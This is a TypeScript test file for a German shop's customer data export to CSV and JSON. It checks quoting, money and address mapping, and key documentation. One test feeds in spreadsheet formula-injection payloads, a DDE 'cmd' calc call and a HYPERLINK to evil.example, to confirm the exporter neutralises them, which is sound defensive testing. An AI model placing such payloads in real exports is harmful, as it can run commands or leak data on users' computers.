import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import {
  DATA_EXPORT_KEYS,
  exportAddress,
  exportKeyPaths,
  exportMoney,
  exportPriceLines,
  tablesToCsv,
  tablesToJson,
} from "./data-export.ts";

describe("the data export (decisions 0028, 0046)", () => {
  it("writes every field of every row in long form, nested data by its path, quoted where needed, with a BOM", () => {
    const csv = tablesToCsv({
      Konto: [
        {
          Kundennummer: 7,
          Vorname: "Jürgen",
          Bemerkung: 'Sagt "Hallo"; tschüss',
          "Angelegt am": "2026-11-24T10:00:00.000Z",
          "Kennwort gesetzt": true,
          Telefon: null,
        },
      ],
      Adressen: [],
      Bestellungen: [
        {
          Bestellnummer: "HM-2026-000123",
          Lieferstellen: [{ Lieferstelle: 1, Lieferadresse: { Straße: "Marienplatz", PLZ: "80331" }, Rechnungsadresse: null }],
          Verlauf: [],
          Klimaneutral: false,
        },
      ],
      Nachrichten: [{ Titel: "Zeile\nzwei" }],
    });
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.slice(1)).toBe(
      [
        "Tabelle;Zeile;Feld;Wert",
        "Konto;1;Kundennummer;7",
        "Konto;1;Vorname;Jürgen",
        'Konto;1;Bemerkung;"Sagt ""Hallo""; tschüss"',
        "Konto;1;Angelegt am;2026-11-24T10:00:00.000Z",
        "Konto;1;Kennwort gesetzt;ja",
        "Konto;1;Telefon;",
        "Bestellungen;1;Bestellnummer;HM-2026-000123",
        "Bestellungen;1;Lieferstellen.1.Lieferstelle;1",
        "Bestellungen;1;Lieferstellen.1.Lieferadresse.Straße;Marienplatz",
        "Bestellungen;1;Lieferstellen.1.Lieferadresse.PLZ;80331",
        "Bestellungen;1;Lieferstellen.1.Rechnungsadresse;",
        "Bestellungen;1;Verlauf;",
        "Bestellungen;1;Klimaneutral;nein",
        'Nachrichten;1;Titel;"Zeile\nzwei"',
        "",
      ].join("\r\n"),
    );
  });

  it("neutralises text that a spreadsheet would run as a formula; numbers stay numbers (decision 0038)", () => {
    const csv = tablesToCsv({
      Adressen: [
        { Ort: "@SUM(1+1)*cmd|'/C calc'!A0", Nachname: '=HYPERLINK("http://evil.example/?x","Klick")', Temperatur: -3.5, Notiz: "-3,5" },
      ],
    });
    expect(csv.slice(1).split("\r\n")).toEqual([
      "Tabelle;Zeile;Feld;Wert",
      "Adressen;1;Ort;'@SUM(1+1)*cmd|'/C calc'!A0",
      `Adressen;1;Nachname;"'=HYPERLINK(""http://evil.example/?x"",""Klick"")"`,
      "Adressen;1;Temperatur;-3,5",
      "Adressen;1;Notiz;'-3,5",
      "",
    ]);
  });

  it("writes JSON with the export time, where the keys are explained, and one key per table", () => {
    const json = JSON.parse(tablesToJson({ Konto: [{ Kundennummer: 1 }] }, new Date("2026-11-24T10:00:00Z")));
    expect(json).toEqual({
      Exportiert: "2026-11-24T10:00:00.000Z",
      Erklärung: expect.stringContaining("Meine Daten"),
      Tabellen: { Konto: [{ Kundennummer: 1 }] },
    });
  });

  it("writes money in the main unit, addresses and price lines under German keys", () => {
    expect([exportMoney(339150), exportMoney(5), exportMoney(null)]).toEqual([3391.5, 0.05, null]);
    expect(
      exportAddress({
        Title1: "Frau",
        FirstName: "Erika",
        LastName: "Muster",
        Street: "Marienplatz",
        HouseNumber: "8",
        ZipCode: "80331",
        City: "München",
        AddressId: 9,
      }),
    ).toEqual({
      Anrede: "Frau",
      Titel: "",
      Vorname: "Erika",
      Nachname: "Muster",
      Firma: "",
      Straße: "Marienplatz",
      Hausnummer: "8",
      PLZ: "80331",
      Ort: "München",
      Telefon: "",
    });
    expect(exportPriceLines([{ Key: "PRODUCT", Label: "Produktpreis", NetPrice: 285000, Price: 339150 }])).toEqual([
      { Bezeichnung: "Produktpreis", Netto: 2850, Brutto: 3391.5 },
    ]);
  });

  it("lists nested keys by path without the row numbers", () => {
    expect(exportKeyPaths({ Bestellungen: [{ A: 1, Lieferstellen: [{ B: { C: 1 } }, { B: { D: 2 } }] }] })).toEqual({
      Bestellungen: ["A", "Lieferstellen", "Lieferstellen.B", "Lieferstellen.B.C", "Lieferstellen.B.D"],
    });
  });

  it("decision 0046 documents every table and every key of the list, in its words", () => {
    const decision = readFileSync(resolve("docs/decisions/0046-data-export-keys.md"), "utf8");
    const missing = Object.entries(DATA_EXPORT_KEYS).flatMap(([table, { about, keys }]) => [
      ...(decision.includes(`### ${table}`) && decision.includes(about) ? [] : [`${table}: ${about}`]),
      ...Object.entries(keys)
        .filter(([key, meaning]) => !decision.includes(`| \`${key}\` | ${meaning} |`))
        .map(([key]) => `${table}.${key}`),
    ]);
    expect(missing).toEqual([]);
  });
});
